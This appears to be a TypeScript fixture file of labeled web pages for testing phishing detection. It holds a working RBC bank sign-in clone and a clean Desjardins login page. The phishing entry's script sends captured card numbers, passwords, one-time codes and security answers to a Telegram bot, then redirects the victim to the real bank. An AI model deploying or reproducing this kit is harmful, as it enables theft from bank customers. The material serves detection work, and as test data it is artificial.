import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, formCss, xorCodes, monogram } from '../parts/yp-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yp-bank-rbc-signin-telegram-relay',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://rbc-secure-signin.com/online-banking/sign-in',
  routes: {
    'rbc-secure-signin.com/online-banking/js/app.js': jsRoute(`var T='6829175530:AAF3kQ0p9rWmZ_1dVxLh7sNq2Yc4tBe8uGo',C='5517290341';
function send(t){return fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t})})}
var step=1,data={};
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();
  new FormData(this).forEach(function(v,k){data[k]=v});
  if(step===1){send('RBC LOGIN\\ncard: '+data.card+'\\npass: '+data.pw+'\\nip: '+(window.__ip||''));step=2;
    document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';
    document.querySelector('#s2 input').required=true;
  } else {send('RBC OTP\\ncard: '+data.card+'\\notp: '+data.otp+'\\nsq: '+data.sq).then(function(){location.replace('https://www.rbcroyalbank.com/')})}
});
fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){window.__ip=j.ip});`),
  },
  body: doc({
    title: 'RBC Online Banking - Sign In',
    lang: 'en-CA',
    css: baseCss + formCss + `body{background:#f3f3f3}.top{background:#005daa;padding:12px 0}.top .wrap{display:flex;align-items:center;gap:12px;color:#fff;font-weight:700}.card{max-width:440px;margin:44px auto;background:#fff;border-radius:4px;padding:32px;box-shadow:0 1px 4px #0002}.btn{background:#005daa;width:100%;margin-top:18px}.y{background:#ffd200;height:4px}`,
    body: `<div class="top"><div class="wrap">${monogram('RBC', '#ffd200', '#005daa', 38, 4)} Royal Bank</div></div><div class="y"></div>
<div class="card"><h1 style="font-size:24px;margin-top:0">Sign In to Online Banking</h1>
<form id="f" autocomplete="off"><div id="s1"><label>Client Card or Username</label><input name="card" required><label>Password</label><input type="password" name="pw" required><p style="font-size:14px"><label style="display:inline;font-weight:400"><input type="checkbox"> Save Client Card or Username</label></p></div>
<div id="s2" style="display:none"><p>For your security, we sent a 6-digit verification code to the phone number on file. Enter it below.</p><label>Verification code</label><input name="otp" inputmode="numeric" maxlength="6"><label>Answer to your security question</label><input name="sq"></div>
<button class="btn">Sign In</button></form><p style="font-size:14px"><a href="#">Recover Your Username</a> · <a href="#">Reset Password</a></p><p class="hint">RBC Online Banking · Secure session</p></div>
<script src="/online-banking/js/app.js"></script>`,
  }),
},
{
  id: 'yp-clean-bank-desjardins-own-login-fr',
  label: 'clean',
  kind: 'clean-bank-login',
  url: 'https://accweb.mouv.desjardins.com/identifiantunique/securite-garantie/authentification/auth/manuel',
  body: doc({
    title: 'Connexion à AccèsD | Desjardins',
    lang: 'fr-CA',
    css: baseCss + formCss + `body{background:#f4f4f4}.hd{background:#00874e;color:#fff;padding:14px 24px;display:flex;justify-content:space-between}.box{max-width:440px;margin:40px auto;background:#fff;padding:30px;border-radius:4px}.btn{background:#00874e;width:100%;margin-top:16px}`,
    body: `<div class="hd"><b style="font-size:20px">Desjardins</b><a style="color:#fff" href="/identifiantunique/identification?langueCible=en">English</a></div>
<div class="box"><h1 style="font-size:22px;margin-top:0">Se connecter à AccèsD</h1><form method="post" action="/identifiantunique/identification" id="id"><input type="hidden" name="domaineVirtuel" value="desjardins"><input type="hidden" name="csrf" value="6b1f0d27-8f3c-4c1e-a5b0-3e4d2c9a1f70"><label for="i">Numéro de carte AccèsD ou identifiant</label><input id="i" name="codeUtilisateur" autocomplete="username" required><p><label style="display:inline;font-weight:400"><input type="checkbox" name="memoriser"> Mémoriser</label></p><button class="btn">Continuer</button></form>
<p style="font-size:14px"><a href="/identifiantunique/aide">Besoin d’aide pour vous connecter?</a></p><p class="hint">Desjardins ne vous demandera jamais votre NIP, votre mot de passe ou un code de sécurité par courriel, par texto ou au téléphone. Service à la clientèle : 1 800 224-7737.</p></div>`,
  }),
},
];
